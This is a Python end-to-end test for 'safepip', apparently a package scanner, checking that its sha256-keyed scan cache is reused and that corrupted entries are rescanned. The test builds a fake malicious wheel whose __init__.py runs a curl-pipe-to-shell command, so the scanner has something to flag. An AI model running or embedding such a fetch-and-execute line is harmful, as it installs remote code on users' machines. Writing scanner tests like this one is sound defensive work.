"""End to end: ``safepip check`` remembers each file's scan under the cache dir, by
the file's sha256; a second run reads those entries instead of scanning, and
spoilt entries are scanned again, with the same report every time."""

from __future__ import annotations

import hashlib
from collections.abc import Mapping
from datetime import timedelta
from pathlib import Path

from tests.e2e.test_install_e2e import OLD, findings, report, safepip
from tests.fakepypi import Artifact, FakePyPI

EVIL_INIT = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"


def release(fake: FakePyPI, name: str, files: Mapping[str, str] | None = None) -> Artifact:
    """An established project's 1.0 wheel (two older releases before it)."""
    for i, version in enumerate(("0.8", "0.9")):
        fake.add_release(name, version, upload_time=OLD + timedelta(days=i))
    [wheel] = fake.add_release(
        name,
        "1.0",
        upload_time=OLD + timedelta(days=30),
        description=f"{name}: a well-documented, long-lived project.",
        project_urls={"Source": f"https://github.com/example-org/{name}"},
        author_email="maintainers@example-org.dev",
        files_override=files,
    )
    return wheel


def entries(cache: Path) -> dict[str, tuple[int, int, bytes]]:
    """Each analysis entry: its file's (inode, mtime, bytes), by file name."""
    out = {}
    for path in sorted((cache / "analysis").rglob("*.json")):
        stat = path.stat()
        out[path.name] = (stat.st_ino, stat.st_mtime_ns, path.read_bytes())
    return out


def test_a_second_check_reads_the_scans_it_stored(
    fake_pypi: FakePyPI, pip_env: dict[str, str], tmp_path: Path
) -> None:
    evil = release(fake_pypi, "alpha", {"alpha/__init__.py": EVIL_INIT})
    clean = release(fake_pypi, "beta")
    cache = tmp_path / "safepip-cache"
    env = {**pip_env, "SAFEPIP_CACHE_DIR": str(cache)}
    args = ["--format", "json", "check", "alpha==1.0", "beta==1.0"]

    first = safepip(args, env, tmp_path)
    assert first.returncode == 1, first.stderr
    doc = report(first)
    assert "install-time-code" in findings(doc, "alpha")
    assert "install-time-code" not in findings(doc, "beta")
    stored = entries(cache)
    shas = {hashlib.sha256(a.data).hexdigest() for a in (evil, clean)}
    assert {name.split(".")[0] for name in stored} == shas  # one entry per file, by sha256

    second = safepip(args, env, tmp_path)
    assert second.returncode == 1, second.stderr
    assert report(second)["packages"] == doc["packages"]
    assert entries(cache) == stored  # read, not written again: nothing was scanned

    for path in (cache / "analysis").rglob("*.json"):
        path.write_bytes(b'{"identity": {}, "result": "clean"}')
    third = safepip(args, env, tmp_path)
    assert third.returncode == 1, third.stderr
    assert report(third)["packages"] == doc["packages"]
    rewritten = entries(cache)
    assert set(rewritten) == set(stored)
    assert all(rewritten[n][2] != b'{"identity": {}, "result": "clean"}' for n in rewritten)
